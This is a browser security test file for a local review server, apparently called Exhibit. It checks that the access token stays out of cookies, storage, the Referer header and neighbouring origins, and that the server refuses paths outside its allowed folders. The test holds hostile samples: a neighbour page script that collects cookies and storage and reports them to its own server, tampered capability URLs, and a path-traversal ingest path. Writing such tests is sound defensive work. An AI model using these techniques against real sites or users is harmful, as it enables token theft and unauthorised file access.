// The browser mode's key cannot leak (issue 13): in Chromium against `exhibit serve`, with a
// second server on another loopback port, run by this test, playing the curious neighbour.
// Browsers do not scope cookies by port, so a cookie would reach it: the token must travel only
// in the URL fragment and a request header, live only in the page's memory, and item bytes must
// load through capability URLs that open one item. The API must also stay inside the folders the
// server was started with.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { EXHIBIT, SHOTS, exhibit, rpc, serve, workDir, launchChromium, pdfFile } from './lib.mjs';


/** A one-page PDF that says `text` (Helvetica). */
function textPdf(text) {
  const stream = `BT /F1 24 Tf 72 700 Td (${text}) Tj ET`;
  const objs = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  return pdfFile(objs);
}

/**
 * The neighbour: a server on another loopback port that records every request it receives
 * (line, headers, body) and serves a page that looks for the key wherever it could be and tries
 * to drive Exhibit's API.
 */
function neighbour(exhibitOrigin) {
  const seen = [];
  let report = null;
  const page = `<!doctype html><title>Neighbour</title><img src="/pixel.gif"><script>
(async () => {
  const found = { cookie: document.cookie, local: JSON.stringify({ ...localStorage }), session: JSON.stringify({ ...sessionStorage }) };
  try {
    const r = await fetch('${exhibitOrigin}/api/rpc', { method: 'POST', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: '{"method":"status"}' });
    found.api = 'answered ' + r.status;
  } catch (e) {
    found.api = 'refused: ' + e.message;
  }
  await fetch('/probe', { credentials: 'include' });
  await fetch('/report', { method: 'POST', body: JSON.stringify(found) });
})();
</script>`;
  const server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (c) => (body += c));
    req.on('end', () => {
      seen.push({ method: req.method, url: req.url, headers: req.rawHeaders, body });
      if (req.url === '/report') report = JSON.parse(body);
      res.writeHead(200, { 'content-type': req.url === '/' || req.url.startsWith('/from-app') ? 'text/html' : 'text/plain' });
      res.end(req.url === '/' ? page : 'ok');
    });
  });
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () =>
      resolve({
        origin: `http://127.0.0.1:${server.address().port}`,
        seen,
        report: () => report,
        close: () => new Promise((r) => server.close(r)),
      }),
    ),
  );
}

describe('browser mode: the key cannot leak', () => {
  let server, other, browser, context, page, work, evidence, ids;
  const shot = (name) => page.screenshot({ path: path.join(SHOTS, `browser-key-${name}.png`) });

  before(async () => {
    assert.ok(fs.existsSync(EXHIBIT), `build exhibit first (${EXHIBIT})`);
    work = workDir('browser-key');
    evidence = path.join(work, 'evidence');
    fs.mkdirSync(evidence, { recursive: true });
    fs.writeFileSync(path.join(evidence, 'alpha.pdf'), textPdf('Alpha capability memo'));
    fs.writeFileSync(path.join(evidence, 'bravo.pdf'), textPdf('Bravo privileged memo'));
    fs.mkdirSync(path.join(work, 'outside'));
    fs.writeFileSync(path.join(work, 'outside', 'dotfile.txt'), 'export SECRET_KEY=hunter2\n');
    const matter = path.join(work, 'matter');
    exhibit('init', matter, '--name', 'Key leak matter');
    exhibit('--matter', matter, 'ingest', evidence, '--custodian', 'Key, Test');
    // Only the evidence folder is allowed (besides the matter itself).
    server = await serve(matter, { allow: [evidence] });
    other = await neighbour(server.origin);
    const search = async (q) => (await rpc(server, 'search', { query: q, limit: 1 })).hits[0].id;
    ids = { alpha: await search('alpha'), bravo: await search('bravo') };
    browser = await launchChromium();
    // One context: one cookie jar and one storage for both servers, as in a user's browser.
    context = await browser.newContext({ viewport: { width: 1280, height: 860 } });
    page = await context.newPage();
  });

  after(async () => {
    await browser?.close();
    await other?.close();
    await server?.stop();
  });

  it('takes the token from the fragment into memory only', async () => {
    assert.match(server.url, /\/#token=[0-9a-f]{64}$/, 'the printed address carries the token in its fragment only');
    const seenByExhibit = [];
    page.on('request', (r) => r.url().startsWith(server.origin) && seenByExhibit.push(r));
    await page.goto(server.url);
    await page.waitForSelector('[data-testid=nav-review]:not([disabled])');
    assert.equal(page.url(), `${server.origin}/`, 'the token is gone from the address bar');
    const where = await page.evaluate(() => ({
      cookie: document.cookie,
      local: JSON.stringify({ ...localStorage }),
      session: JSON.stringify({ ...sessionStorage }),
      history: history.length,
    }));
    for (const [k, v] of Object.entries(where)) assert.ok(!String(v).includes(server.token), `token found in ${k}`);
    assert.deepEqual(await context.cookies(), [], 'no cookie at all');
    // The page load itself carried no token; API calls carry it in the header only.
    const first = seenByExhibit[0];
    assert.equal(new URL(first.url()).hash, '');
    assert.ok(!first.url().includes(server.token));
    const api = seenByExhibit.filter((r) => r.url().includes('/api/rpc'));
    assert.ok(api.length > 0);
    for (const r of api) {
      assert.equal(r.headers()['x-exhibit-token'], server.token);
      assert.ok(!r.url().includes(server.token));
    }
  });

  it('loads page images and the original through capability URLs naming one item', async () => {
    await page.click('[data-testid=nav-review]');
    await page.fill('[data-testid=query]', 'alpha');
    await page.click('[data-testid=search]');
    await page.locator('.vrow').first().click();
    await page.waitForSelector('[data-testid=tab-pages]');
    await page.click('[data-testid=tab-pages]');
    await page.waitForFunction(() => [...document.querySelectorAll('[data-testid=page-image]')].some((i) => i.complete && i.naturalWidth > 100));
    await shot('pdf');
    const src = await page.getAttribute('[data-testid=page-image]', 'src');
    const href = await page.getAttribute('a.download', 'href');
    for (const u of [src, href]) {
      assert.ok(u.includes('c=') && !u.includes(server.token), `a capability, not the token: ${u}`);
      assert.ok(u.includes(`/api/item/${ids.alpha}/`), u);
    }
    // The original downloads with its capability alone (no header, no cookie).
    const original = await fetch(new URL(href, server.origin));
    assert.equal(original.status, 200);
    assert.equal(Buffer.from(await original.arrayBuffer()).toString('latin1'), fs.readFileSync(path.join(evidence, 'alpha.pdf'), 'latin1'));
    // Stolen and pointed at the other item, or at the other resource: refused.
    const stolen = [
      href.replace(`/api/item/${ids.alpha}/`, `/api/item/${ids.bravo}/`),
      src.replace(`/api/item/${ids.alpha}/`, `/api/item/${ids.bravo}/`),
      href.replace('/original?', '/page/0?'),
    ];
    for (const u of stolen) {
      const r = await fetch(new URL(u, server.origin));
      assert.equal(r.status, 403, u);
      const body = await r.json();
      assert.equal(body.code, 'capability_refused');
      assert.match(body.message, /opens one item/);
    }
    // Even from inside the app's own page, a stolen capability opens nothing else.
    const inPage = await page.evaluate(async (u) => (await fetch(u)).status, stolen[0]);
    assert.equal(inPage, 403);
  });

  it('refuses to ingest a path outside the allowed folders, saying how to allow it', async () => {
    const outside = path.join(work, 'outside');
    await page.click('[data-testid=nav-ingest]');
    await page.fill('[data-testid=ingest-paths]', outside);
    await page.fill('[data-testid=ingest-custodian]', 'Intruder');
    await page.click('[data-testid=ingest-start]');
    await page.waitForFunction(() => /--allow/.test(document.querySelector('[data-testid=notice]')?.textContent ?? ''));
    const notice = await page.textContent('[data-testid=notice]');
    assert.match(notice, /may not read/);
    assert.ok(notice.includes(outside) && notice.includes(evidence), notice);
    await shot('ingest-refused');
    await assert.rejects(rpc(server, 'ingest', { paths: [path.join(outside, 'dotfile.txt')], custodian: 'X' }), /path_refused/);
    await assert.rejects(rpc(server, 'ingest', { paths: [path.join(evidence, '..', 'outside')], custodian: 'X' }), /path_refused/);
    await assert.rejects(rpc(server, 'create_matter', { dir: path.join(outside, 'm'), name: 'M' }), /path_refused/);
    const status = await rpc(server, 'status');
    assert.equal(status.items, 2, 'nothing outside was read');
  });

  it('a page on another loopback port receives no token and cannot use the API', async () => {
    const neighbourPage = await context.newPage();
    await neighbourPage.goto(`${other.origin}/`);
    const deadline = Date.now() + 15_000;
    while (!other.report() && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
    const report = other.report();
    assert.ok(report, 'the neighbour page reported');
    assert.equal(report.cookie, '');
    assert.equal(report.local, '{}');
    assert.equal(report.session, '{}');
    assert.match(report.api, /^refused/, `the neighbour could not read an API answer: ${report.api}`);
    await neighbourPage.close();
    // The app's tab follows a link to the neighbour (as a reviewer might): still no token.
    await page.evaluate((u) => (location.href = u), `${other.origin}/from-app`);
    await page.waitForURL(`${other.origin}/from-app`);
    const all = JSON.stringify(other.seen);
    assert.ok(other.seen.length >= 5, `requests seen: ${other.seen.map((r) => r.url)}`);
    assert.ok(!all.includes(server.token), 'the token reached the neighbour');
    for (const r of other.seen) {
      const names = r.headers.filter((_, i) => i % 2 === 0).map((h) => h.toLowerCase());
      assert.ok(!names.includes('cookie'), `${r.url} carried a cookie`);
    }
    // Leaving the app tells the neighbour nothing about where the reviewer came from.
    const fromApp = other.seen.find((r) => r.url === '/from-app');
    assert.ok(fromApp && !fromApp.headers.some((h) => h.toLowerCase() === 'referer'), 'the app sends no Referer');
    // Back on the app, the tab no longer holds the key: it says how to get back in.
    await page.goto(`${server.origin}/`);
    await page.waitForFunction(() => /#token=/.test(document.body.textContent ?? ''));
    await shot('no-key');
  });
});
